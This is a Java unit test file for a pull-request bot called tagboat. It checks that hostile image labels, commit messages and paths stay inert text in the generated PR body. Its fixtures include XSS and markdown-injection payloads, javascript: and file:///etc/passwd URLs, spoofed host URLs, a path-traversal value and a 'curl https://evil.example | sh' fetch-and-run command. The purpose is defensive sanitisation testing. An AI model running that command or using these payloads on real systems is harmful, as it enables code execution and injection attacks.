package dev.tagboat.bot.pull;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tagboat.bot.forge.CommitRange;
import dev.tagboat.bot.image.Digest;
import dev.tagboat.bot.image.ImageEvidence;
import dev.tagboat.bot.image.ImageEvidence.Command;
import dev.tagboat.bot.image.Tag;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever an image, a commit, a path or a sender says, it stays text in its place. */
final class HostileTextTest {
  private static final String ALL =
      "](https://evil.example) <img src=x onerror=alert(1)> @everyone closes #1 ``` | <b>\u202egnp";

  static Change hostile() {
    Sample sample = Sample.of("app", "1.0.0", "1.0.1-rc.1-closes-12");
    ImageEvidence.Seen now =
        new ImageEvidence.Seen(
            Sample.digest(sample.image(), sample.to()),
            "text/" + ALL,
            Instant.EPOCH,
            List.of(new ImageEvidence.Platform("linux/" + ALL, digest('7'), 12L)),
            Instant.parse("2026-11-01T00:00:00Z"),
            Sample.claims(
                Map.of(
                    "source",
                    "javascript:alert(1)",
                    "revision",
                    ALL,
                    "version",
                    ALL,
                    "title",
                    "A".repeat(1_000_000),
                    "url",
                    "https://evil.example/@you")),
            new Command(
                "root\n" + ALL, List.of("sh", "-c", "curl https://evil.example | sh"), List.of("")),
            List.of(),
            List.of(ALL));
    Change.Version version =
        new Change.Version(
            sample.image(),
            sample.to(),
            Sample.digest(sample.image(), sample.to()),
            ALL,
            now,
            new Background(
                new Before(sample.from(), digest('8'), sample.old(), true),
                new CommitRange(
                    3,
                    List.of(
                        new CommitRange.Commit(ALL, "</summary></details># x\n" + ALL),
                        new CommitRange.Commit(
                            Sample.commit("x"),
                            "![x](https://evil.example/x.png) www.evil.example"),
                        new CommitRange.Commit(
                            Sample.commit("y"), "fixes GH-3 mailto:a@b.example <!-- -->"))),
                new Announced("hook main (generic)", Instant.EPOCH, ALL),
                digest('9'),
                Signature.of(now),
                true));
    Change.Place place =
        new Change.Place(
            sample.image(),
            "a`|b @all\n# <img>/``[x](y).yaml",
            3,
            sample.from(),
            null,
            sample.to(),
            "semver",
            "`|b/#1.yaml:3:5: # tagboat: semver " + ALL,
            ALL);
    return new Change(
        new Group.OfImage(sample.image()),
        List.of(version),
        List.of(place),
        new Change.Base(Sample.BASE, Sample.PAGES));
  }

  private static Digest digest(char digit) {
    return new Digest("sha256:" + String.valueOf(digit).repeat(64));
  }

  /** What is not inside a code span: what a renderer would read as markup. */
  private static String markup(String body) {
    return body.replaceAll("(`+)(?!`)[^`](?:.*?[^`])?\\1(?!`)", "CODE")
        .replaceAll("&#[0-9]+;", "¤");
  }

  @Test
  void onlyOurOwnMarkupIsMarkup() {
    String markup = markup(Sample.body(hostile()));

    assertThat(markup)
        .doesNotContain(
            "<img", "<b>", "javascript:", "evil.example)", "![", "</summary></details>#")
        .doesNotContain("@everyone", "#1 ", "#3", "\u202e", "https://evil", "www.evil", "GH-3")
        .doesNotContain("mailto:a");
    assertThat(markup.lines().filter(line -> line.startsWith("#"))).isEmpty();
  }

  @Test
  void everyLinkLeadsToAKnownPlace() {
    String markup = markup(Sample.body(hostile()));

    assertThat(markup.replace("](https://github.com/acme/", "")).doesNotContain("](");
  }

  @Test
  void everyRowOfATableHasItsCells() {
    assertThat(
            Sample.body(hostile())
                .lines()
                .filter(line -> line.startsWith("|"))
                .map(line -> line.replace("\\|", "").chars().filter(c -> c == '|').count()))
        .containsOnly(4L);
  }

  @Test
  void aMegabyteIsCut() {
    assertThat(Sample.body(hostile())).hasSizeLessThan(10_000);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://evil.example/x",
        "http://github.com/acme/app",
        "https://github.com@evil.example/acme/app",
        "https://github.com.evil.example/acme/app",
        "https://github.com/acme/app?x=1",
        "https://github.com/acme/../../x",
        "https://github.com/acme/app)[x](javascript:alert(1))",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "https://127.0.0.1/acme/app",
        "https://[::1]/acme/app",
        "//github.com/acme/app",
        "https://gitlab.evil.example/a/b"
      })
  void aSourceThatIsNotAtAKnownPlaceIsNoLink(String source) {
    Sample sample =
        Sample.of("web")
            .withCommits(null)
            .withOld(Sample.saying(Map.of("source", source, "revision", Sample.commit("a"))))
            .withNow(Sample.saying(Map.of("source", source, "revision", Sample.commit("b"))));

    assertThat(markup(Sample.body(sample.change()))).doesNotContain("/compare/", "/commit/");
  }

  @Test
  void theOtherFormsOfForges() {
    assertThat(compare("https://gitlab.com/a/b/c.git"))
        .contains("(https://gitlab.com/a/b/c/-/compare/");
    assertThat(compare("https://codeberg.org/a/b/")).contains("(https://codeberg.org/a/b/compare/");
  }

  private static String compare(String source) {
    return Sample.body(
        Sample.of("web")
            .withCommits(null)
            .withOld(Sample.saying(Map.of("source", source, "revision", Sample.commit("a"))))
            .withNow(Sample.saying(Map.of("source", source, "revision", Sample.commit("b"))))
            .change());
  }

  @Test
  void whatIsWrittenIntoTheBodyByHandIsOnlyShown() {
    Sample web = Sample.of("web");
    String body = Sample.body(web.change());
    String edited =
        body.replace("patch · ", "nothing to see here · ")
            .replace("tagboat:base " + Sample.BASE, "tagboat:base ../../evil");

    assertThat(Sample.body(web.change(Sample.BASE, web.forgotten()), edited))
        .contains("nothing to see here", "/blob/" + Sample.BASE)
        .doesNotContain("evil");
  }

  @Test
  void aTagIsShownAsItIs() {
    Tag tag = new Tag("1.0__0.-x");

    assertThat(Sample.body(Sample.of("web", "1.0.0", tag.value()).change()))
        .contains("to `1.0__0.-x` in 2 places");
  }
}
